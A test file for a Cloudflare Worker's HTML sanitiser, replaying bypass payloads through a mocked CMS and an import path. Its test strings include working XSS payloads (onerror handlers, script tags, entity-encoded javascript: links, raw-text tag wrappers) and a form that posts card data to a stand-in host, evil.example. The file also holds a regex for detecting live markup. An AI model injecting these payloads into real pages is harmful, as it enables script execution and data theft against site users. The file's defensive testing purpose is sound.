/**
 * Issue 11, problem 1: what the probe got past the old sanitiser, replayed through the worker.
 * In proxied mode a fake CMS (a mocked fetch) serves the payloads; in embedded mode they come in
 * through the import. Each test failed on the HTMLRewriter sanitiser this one replaced.
 */
import { env } from 'cloudflare:workers';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { PostInput } from '../../shared/types/content';
import { importBundle } from '../../worker/content/import/import';
import { call, clearCache } from './helpers';

const remote = { BACKEND_URL: 'https://cms.example' };

beforeEach(() => clearCache());
afterEach(() => vi.restoreAllMocks());

/** A post answer as the CMS sends it, with `fields` over a plain story. */
const postAnswer = (fields: Record<string, unknown>) => ({
  item: {
    id: 4101,
    slug: 'payload-story',
    title: 'A story',
    intro: 'An intro.',
    postDate: '2026-11-20T17:00:00Z',
    images: [],
    tags: [],
    locale: ['en', 'pa'],
    ...fields,
  },
  relatedNews: [],
  latestNews: [],
});

/** What the worker serves for `path` when the CMS answers with `answer`. */
async function served(path: string, answer: Response): Promise<{ status: number; text: string }> {
  vi.spyOn(globalThis, 'fetch').mockResolvedValue(answer);
  const res = await call(path, undefined, remote);
  return { status: res.status, text: await res.text() };
}

const json = (body: unknown, init?: ResponseInit) => Response.json(body, init);

/** Markup that must never reach a page. */
const LIVE = /<(?:script|xmp|noembed|noframes|plaintext|form|iframe|svg)\b|\son\w+\s*=|javascript|&colon;/i;

describe('problem 1: the sanitiser can be bypassed', () => {
  it('cleans post bodies sent as plain strings under every name (body, post, bodyPa, postPa)', async () => {
    for (const name of ['body', 'post', 'bodyPa', 'postPa']) {
      const { text } = await served(
        `/api/news/post/string-${name.toLowerCase()}`,
        json(postAnswer({ [name]: '<p>Kept</p><img src=x onerror=alert(1)><script>alert(2)</script>' })),
      );
      const item = (JSON.parse(text) as { item: Record<string, string> }).item;
      expect(item[name], name).toBe('<p>Kept</p><img src="x" loading="lazy" />');
    }
  });

  it('drops entity-encoded javascript links and keeps their text', async () => {
    const { text } = await served(
      '/api/news/post/encoded-links',
      json(
        postAnswer({
          body: [
            {
              type: 'text',
              value:
                '<a href="&#106;avascript:alert(1)">one</a><a href="javascript&colon;alert(2)">two</a><a href="&#x6A;ava&#x09;script&#58;alert(3)">three</a>',
            },
          ],
        }),
      ),
    );
    expect(JSON.parse(text).item.body[0].value).toBe('<a>one</a><a>two</a><a>three</a>');
  });

  it('drops xmp, noembed, noframes and plaintext with their contents', async () => {
    const payload =
      '<p>Before</p><xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x onerror=alert(2)></noembed>' +
      '<noframes><img src=x onerror=alert(3)></noframes><plaintext><img src=x onerror=alert(4)>';
    const { text } = await served('/api/news/post/raw-text', json(postAnswer({ post: payload })));
    const item = JSON.parse(text).item;
    expect(item.post).toBe('<p>Before</p>');
    expect(text).not.toMatch(LIVE);
  });

  it('closes or drops an unterminated last tag, so it cannot swallow the markup after it', async () => {
    for (const tail of ['<img src=x onerror=alert(1)', '<a href="https://example.org/', '<p title="x']) {
      const { text } = await served(
        `/api/news/post/unterminated-${tail.length}`,
        json(postAnswer({ description: `<p>Kept</p>${tail}` })),
      );
      const html: string = JSON.parse(text).item.description;
      expect(html, tail).toMatch(/^<p>Kept<\/p>(?:<p[^>]*><\/p>)?$/);
    }
  });

  it('never passes a 203 answer on raw, and cleans a text/plain answer that parses as JSON', async () => {
    const dirty = postAnswer({ body: '<p>x</p><xmp><script>alert(1)</script></xmp><a href="&#106;avascript:x">y</a>' });
    // The cache takes only a 200 as content: a 203 is an upstream failure, and none of it is served.
    const nonAuthoritative = await served('/api/news/post/status-203', json(dirty, { status: 203 }));
    expect(nonAuthoritative.status).toBe(502);
    expect(nonAuthoritative.text).not.toMatch(/script|javascript/i);
    const plain = await served(
      '/api/news/post/text-plain',
      new Response(JSON.stringify(dirty), { headers: { 'content-type': 'text/plain' } }),
    );
    expect(JSON.parse(plain.text).item.body).toBe('<p>x</p><a>y</a>');
  });

  it('removes off-site forms and frames from a string body, and keeps the video stand-in', async () => {
    const { text } = await served(
      '/api/news/post/forms-and-frames',
      json(
        postAnswer({
          body:
            '<p>Tell us</p><form action="https://evil.example/steal"><input name="card"><button>Send</button></form>' +
            '<button formaction="https://evil.example/">Go</button><iframe src="https://evil.example/frame"></iframe>' +
            '<iframe src="https://www.youtube.com/embed/abcdefghijk" title="Trailer"></iframe>',
        }),
      ),
    );
    const body: string = JSON.parse(text).item.body;
    expect(body).toMatch(/^<p>Tell us<\/p><a class="embed-video" [^>]*data-youtube-id="abcdefghijk"/);
    expect(body).toContain('src="/images/video-placeholder.svg"');
    expect(body).not.toMatch(/<form|<input|<button|<iframe|evil\.example/);
  });

  it('cleans rich text on the way in through the import, and the embedded answer serves it clean', async () => {
    const db = (env as unknown as { DB: D1Database }).DB;
    const post: PostInput = {
      id: 900_411,
      kind: 'news',
      slug: 'sanitiser-import-story',
      title: 'Import',
      intro: 'An imported story.',
      body: [
        { type: 'text', value: '<p>Kept</p><xmp><img src=x onerror=alert(1)></xmp><a href="javascript&colon;x">y</a>' },
      ],
      tags: ['bc'],
      locale: ['en'],
      images: [{ url: '/media/images/bc/x.svg' }],
      postDate: '2026-11-20T17:00:00Z',
    };
    await importBundle(db, { posts: [post] });
    const stored = await db.prepare('SELECT body FROM posts WHERE id = ?').bind(post.id).first<{ body: string }>();
    expect(stored?.body).not.toMatch(LIVE);
    const res = await call(`/api/news/post/${post.slug}`);
    const body = ((await res.json()) as { item: { body: { value: string }[] } }).item.body;
    expect(body[0]?.value).toBe('<p>Kept</p><a>y</a>');
  });
});
